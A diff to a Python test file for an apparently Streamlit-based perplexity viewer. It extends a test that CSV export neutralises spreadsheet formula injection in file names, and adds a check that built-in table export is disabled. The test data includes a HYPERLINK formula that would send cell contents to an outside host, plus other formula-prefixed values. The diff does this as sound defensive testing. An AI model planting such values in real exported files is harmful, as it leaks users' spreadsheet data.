@@ -8,6 +8,7 @@ import json
 import math
 import re
 import threading
+import tomllib
 from dataclasses import replace
 from pathlib import Path
 from typing import Any
@@ -22,6 +23,7 @@ from rnnviz.ui.jobs.worker import Step
 from rnnviz.ui.pages.perplexity import comparison, encodings, scale, take, work
 from rnnviz.ui.pages.perplexity.comparison import Bar
 from rnnviz.ui.words import duration, percent, rounded
+from tests.browser.driving import ROOT
 from tests.conftest import TEXT
 from tests.ui.apptest import clean, settled
 from tests.ui.conftest import Open, everything
@@ -127,11 +129,17 @@ def test_what_is_taken_away_holds_every_figure(models_folder: Path) -> None:
 def test_a_file_whose_name_is_a_formula_is_text_in_a_spreadsheet(models_folder: Path) -> None:
     link = '=HYPERLINK("http://example.org/?"&A1)'
     reports = [
-        replace(expected(models_folder, "time"), file=name) for name in (link, "@x", "\t=1", "a=1", "-")
+        replace(expected(models_folder, "time"), file=name)
+        for name in (link, "@x", "\t=1", "a=1", "-", "＝1+1")
     ]
     rows = list(csv.DictReader(io.StringIO(take.as_csv(reports))))
-    assert [row["file"] for row in rows] == [f"'{link}", "'@x", "'\t=1", "a=1", "-"]
+    assert [row["file"] for row in rows] == [f"'{link}", "'@x", "'\t=1", "a=1", "-", "'＝1+1"]
     assert [float(row["perplexity"]) for row in rows] == [r.perplexity for r in reports]
+
+
+def test_tables_have_no_export_of_their_own_which_would_not_quote_it() -> None:
+    settings = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
+    assert settings["client"]["disableDataExport"] is True
 
 
 @pytest.mark.parametrize("name", ["origin", "against", "sum", "compression", "take"])
